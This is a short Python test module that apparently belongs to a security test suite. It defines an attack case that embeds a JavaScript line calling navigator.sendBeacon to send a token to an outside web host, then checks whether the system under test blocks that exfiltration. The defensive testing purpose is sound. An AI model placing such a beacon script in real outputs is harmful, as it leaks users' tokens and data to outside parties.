"""A script sends a beacon."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""navigator.sendBeacon('http://{WEB}/{ground.token}', 'x')"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
